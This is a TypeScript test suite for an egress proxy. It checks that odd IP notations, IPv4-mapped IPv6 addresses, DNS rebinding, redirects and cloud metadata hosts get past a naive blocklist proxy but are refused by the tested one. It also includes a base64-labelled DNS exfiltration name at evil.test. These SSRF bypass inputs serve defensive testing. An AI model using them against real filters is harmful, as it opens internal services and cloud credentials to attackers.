// Shows that a name or an address leads nowhere that no rule names: odd notations, rebinding, redirects, names that carry data.
import assert from 'node:assert/strict';
import { request } from 'node:http';
import { describe, it } from 'node:test';
import { openNaiveProxy } from './naive-proxy.ts';
import { HOST, LOOPBACK, openNameServer, openOrigin, openTestProxy, talk, type Wanted } from './scene.ts';

const get = (authority: string, path = '/') => `GET http://${authority}${path} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`;

/** As many do: what is written is compared with what must not be reached. */
const BLOCKED = new Set(['127.0.0.1', 'localhost', '169.254.169.254']);
const byText = { allows: (host: string) => !BLOCKED.has(host) };

/** Every host is allowed, but no range. */
const ANY_HOST: Wanted = { rules: [{}] };
const NO_RANGE = /a loopback address, and no rule that allows this names its range/;

const NOTATIONS: readonly (readonly [name: string, host: string, said: RegExp])[] = [
  ['one decimal number', '2130706433', /2130706433 is an address in an odd notation/],
  ['one octal number', '017700000001', /odd notation/],
  ['one hexadecimal number', '0x7f000001', /odd notation/],
  ['octal parts', '0177.0.0.1', /odd notation/],
  ['hexadecimal parts', '0x7f.0x0.0x0.0x1', /odd notation/],
  ['two parts', '127.1', /odd notation/],
  ['three parts', '127.0.1', /odd notation/],
  ['leading zeros', '127.000.000.001', /odd notation/],
  ['zero', '0', /odd notation/],
  ['the unspecified address', '0.0.0.0', /0\.0\.0\.0 is an unspecified address/],
  ['another loopback address', '127.0.0.2', NO_RANGE],
  ['an IPv4-mapped address', '[::ffff:127.0.0.1]', /an IPv6 address that holds an IPv4 one/],
  ['an IPv4-mapped address in hex', '[::ffff:7f00:1]', /an IPv6 address that holds an IPv4 one/],
  ['capitals', 'LOCALHOST', NO_RANGE],
  ['a name below localhost', 'a.localhost', NO_RANGE],
];

describe('An address in another notation', { concurrency: 4 }, () => {
  for (const [name, host, said] of NOTATIONS) {
    it(`as ${name} (${host}) leads past a naive proxy to this machine, and not past ours`, async () => {
      const origin = await openOrigin(undefined, '0.0.0.0');
      const mapped = host.startsWith('[') || host.endsWith('.localhost');
      const naive = await openNaiveProxy({ ...byText, ...(mapped ? { addressOf: () => '127.0.0.1' } : {}) });
      const proxy = await openTestProxy(ANY_HOST);
      assert.match(await talk(naive.port, get(`${host}:${origin.port}`)), /loot/);
      const seen = origin.seen();
      const got = await talk(proxy.port, get(`${host}:${origin.port}`));
      await Promise.all([naive.close(), proxy.close(), origin.close()]);
      assert.doesNotMatch(got, /loot/);
      assert.match(got, said);
      assert.equal(origin.seen(), seen);
    });
  }

  const others: readonly (readonly [host: string, said: RegExp])[] = [
    ['127.0.0.1.', /odd notation/],
    ['[fe80::1%eth0]', /an address with a zone/],
    ['[::]', /an unspecified address/],
    ['[::1]', NO_RANGE],
    ['[64:ff9b::7f00:1]', /holds an IPv4 one/],
    ['[2002:7f00:1::]', /holds an IPv4 one/],
    ['[64:ff9b::a9fe:a9fe]', /link-local address, where clouds keep their metadata/],
    ['10.0.0.1', /10\.0\.0\.1 is a private address/],
    ['100.64.0.1', /a carrier.+s network/],
    ['198.18.0.1', /a test network/],
    ['224.0.0.1', /a multicast address/],
    ['255.255.255.255', /a reserved or broadcast address/],
    ['169.254.169.254', /where clouds keep their metadata/],
    ['100.100.100.200', /a metadata address/],
    ['[fd00:ec2::254]', /a metadata address/],
    ['metadata.google.internal', /a name of a cloud.+s metadata/],
  ];
  it('leads nowhere in any other form either', async () => {
    const proxy = await openTestProxy(ANY_HOST);
    for (const [host, said] of others) assert.match(await talk(proxy.port, get(host)), said, host);
    await proxy.close();
  });
});

describe('A range that a rule names', () => {
  it('is reached, and what lies beside it is not', async () => {
    const [inside, outside] = [await openOrigin(), await openOrigin(undefined, '127.0.0.2')];
    const proxy = await openTestProxy({ rules: [{ addresses: ['127.0.0.1/32'] }] });
    const [good, bad] = [
      await talk(proxy.port, get(`127.0.0.1:${inside.port}`)),
      await talk(proxy.port, get(`127.0.0.2:${outside.port}`)),
    ];
    await Promise.all([proxy.close(), inside.close(), outside.close()]);
    assert.match(good, /loot$/);
    assert.match(bad, NO_RANGE);
    assert.equal(outside.connections(), 0);
  });

  it('opens neither metadata nor link-local addresses nor what is of this service', async () => {
    const service = await openOrigin();
    const everywhere = { rules: [{ addresses: ['0.0.0.0/0', '::/0'] }] };
    const proxy = await openTestProxy({
      ...everywhere,
      profile: {
        floor: [{ host: '127.0.0.1', port: service.port }, { host: 'engine.test' }, { host: '0.0.0.0', port: 9 }],
        names: { 'engine.test': ['127.0.0.9'], 'alias.test': ['127.0.0.1'], 'other.test': ['127.0.0.9'] },
      },
    });
    const said = /belongs to this service or its engines/;
    assert.match(await talk(proxy.port, get('169.254.169.254')), /metadata/);
    assert.match(await talk(proxy.port, get('[fe80::1]')), /link-local/);
    assert.match(await talk(proxy.port, get(`127.0.0.1:${service.port}`)), said);
    assert.match(await talk(proxy.port, get(`alias.test:${service.port}`)), said);
    assert.match(await talk(proxy.port, get(`[::ffff:127.0.0.1]:${service.port}`)), said);
    assert.match(await talk(proxy.port, get('engine.test')), said);
    assert.match(await talk(proxy.port, get('other.test')), said);
    assert.match(await talk(proxy.port, get('127.0.0.77:9')), said);
    const open = await openTestProxy(everywhere);
    assert.match(await talk(open.port, get(`127.0.0.1:${service.port}`)), /loot$/);
    await Promise.all([proxy.close(), open.close(), service.close()]);
    assert.equal(service.connections(), 1);
  });

  it('is not reached where only the site’s ranges are, whatever the rule says', async () => {
    const origin = await openOrigin();
    const rules = [{ addresses: ['127.0.0.0/8'] }];
    const site = await openTestProxy({ rules, profile: { airGapped: true, siteRanges: ['127.0.0.0/8'] } });
    const other = await openTestProxy({ rules, profile: { airGapped: true, siteRanges: ['10.0.0.0/8'] } });
    const got = [
      await talk(site.port, get(`127.0.0.1:${origin.port}`)),
      await talk(other.port, get(`127.0.0.1:${origin.port}`)),
      await talk(other.port, get('93.184.216.34')),
    ];
    await Promise.all([site.close(), other.close(), origin.close()]);
    assert.match(got[0] ?? '', /loot$/);
    assert.match(got[1] ?? '', /127\.0\.0\.1 is in none of the site.+s own ranges/);
    assert.match(got[2] ?? '', /93\.184\.216\.34 is in none of the site.+s own ranges/);
  });
});

describe('A name', () => {
  it('that resolves to a private address leads past a naive proxy, and not past ours', async () => {
    const origin = await openOrigin();
    const names = await openNameServer(() => ['127.0.0.1']);
    const naive = await openNaiveProxy({ ...byText, addressOf: () => '127.0.0.1' });
    const proxy = await openTestProxy({ ...ANY_HOST, lookup: names.lookup });
    assert.match(await talk(naive.port, get(`inner.test:${origin.port}`)), /loot/);
    const got = await talk(proxy.port, get(`inner.test:${origin.port}`));
    await Promise.all([naive.close(), proxy.close(), origin.close(), names.close()]);
    assert.match(got, NO_RANGE);
    assert.equal(origin.connections(), 1);
  });

  it('that has another address the second time (rebinding) leads past a naive proxy, and not past ours', async () => {
    const inside = await openOrigin(undefined, '127.0.0.2');
    // What is allowed, then what is wanted, on the same port.
    const wanted = await openOrigin(undefined, '127.0.0.3', inside.port);
    const turning = () => {
      const answers = ['127.0.0.2', '127.0.0.3', '127.0.0.3', '127.0.0.3'];
      return () => answers.shift() ?? '127.0.0.3';
    };
    const naive = await openNaiveProxy({
      allows: () => true,
      addressOf: turning(),
      allowsAddress: (address) => address === '127.0.0.2',
    });
    const next = turning();
    const names = await openNameServer(() => [next()]);
    const proxy = await openTestProxy({ rules: [{ addresses: ['127.0.0.2'] }], lookup: names.lookup });
    await talk(naive.port, get(`turning.test:${inside.port}`));
    assert.equal(wanted.connections(), 1, 'the attack does not even work against a naive proxy');
    const first = await talk(proxy.port, get(`turning.test:${inside.port}`));
    // Its time is over then, however short it was said to be.
    await new Promise((resolve) => setTimeout(resolve, 1100));
    const second = await talk(proxy.port, get(`turning.test:${inside.port}`));
    await Promise.all([naive, proxy, inside, wanted, names].map((one) => one.close()));
    assert.match(first, /loot$/);
    assert.match(second, /127\.0\.0\.3 is a loopback address, and no rule/);
    assert.equal(wanted.connections(), 1);
  });

  it('that has one good and one bad address is reached at the good one only', async () => {
    const good = await openOrigin(undefined, '127.0.0.2');
    const bad = await openOrigin(undefined, '127.0.0.3', good.port);
    const names = await openNameServer(() => ['127.0.0.3', '127.0.0.2']);
    const proxy = await openTestProxy({ rules: [{ addresses: ['127.0.0.2'] }], lookup: names.lookup });
    const got = await talk(proxy.port, get(`both.test:${good.port}`));
    await Promise.all([proxy, good, bad, names].map((one) => one.close()));
    assert.match(got, /loot$/);
    assert.deepEqual([good.connections(), bad.connections()], [1, 0]);
  });

  it('that is not allowed never reaches a resolver: it could carry what was stolen', async () => {
    const names = await openNameServer(() => ['127.0.0.1']);
    const rules = [{ hosts: ['*.allowed.test'] }, { hosts: ['asked.test'], verdict: 'ask' as const }];
    const proxy = await openTestProxy({ rules, lookup: names.lookup });
    await names.lookup('c2VjcmV0.evil.test', 'A');
    assert.deepEqual(names.asked(), ['A c2vjcmv0.evil.test'], 'the name server does not even tell what it was asked');
    for (const host of ['c2VjcmV0.evil.test', 'c2VjcmV0.asked.test', 'asked.test', 'metadata.google.internal']) {
      assert.match(await talk(proxy.port, get(host)), /^HTTP\/1\.1 403 /);
      assert.match(
        await talk(proxy.port, `CONNECT ${host}:443 HTTP/1.1\r\nHost: ${host}:443\r\n\r\n`),
        host === 'asked.test' ? /200/ : /403/,
      );
    }
    await talk(proxy.port, get('a.allowed.test'));
    await Promise.all([proxy.close(), names.close()]);
    assert.deepEqual(names.asked().slice(1).toSorted(), ['A a.allowed.test', 'AAAA a.allowed.test']);
  });

  it('is asked for once within its time, by however many', async () => {
    const origin = await openOrigin();
    const names = await openNameServer(() => ['127.0.0.1'], 60);
    const proxy = await openTestProxy({ rules: [{ addresses: ['127.0.0.1'] }], lookup: names.lookup });
    const all = await Promise.all(Array.from({ length: 5 }, () => talk(proxy.port, get(`one.test:${origin.port}`))));
    await Promise.all([proxy.close(), names.close(), origin.close()]);
    assert.ok(all.every((got) => got.endsWith('loot')));
    assert.deepEqual(names.asked().toSorted(), ['A one.test', 'AAAA one.test']);
  });
});

describe('A redirect', () => {
  it('to a private address leads a program past a naive proxy, and not past ours', async () => {
    const inner = await openOrigin(undefined, '127.0.0.2');
    const origin = await openOrigin(
      `HTTP/1.1 302 Found\r\nlocation: http://127.0.0.2:${inner.port}/\r\ncontent-length: 0\r\n\r\n`,
    );
    const naive = await openNaiveProxy({ ...byText, addressOf: (name) => (name === HOST ? '127.0.0.1' : name) });
    const proxy = await openTestProxy({ rules: [LOOPBACK, {}] });
    const start = `http://${HOST}:${origin.port}/`;
    assert.equal(await followed(naive.port, start), '200 loot');
    const got = await followed(proxy.port, start);
    await Promise.all([naive, proxy, inner, origin].map((one) => one.close()));
    assert.match(
      got,
      /^403 GET http:\/\/127\.0\.0\.2:\d+\/ is refused, whatever a rule says: 127\.0\.0\.2 is a loopback address/,
    );
    assert.equal(inner.connections(), 1);
  });
});

/** Status and body of where a URL leads, as a client of a proxy that follows redirects sees it. */
function followed(port: number, url: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const asked = request({ port, path: url, headers: { host: new URL(url).host }, agent: false }, (answer) => {
      const { location } = answer.headers;
      if (location !== undefined) {
        answer.resume();
        resolve(followed(port, location));
        return;
      }
      let body = '';
      answer.setEncoding('utf8').on('data', (text: string) => (body += text));
      answer.on('end', () => resolve(`${answer.statusCode} ${body}`));
    });
    asked.on('error', reject);
    asked.end();
  });
}
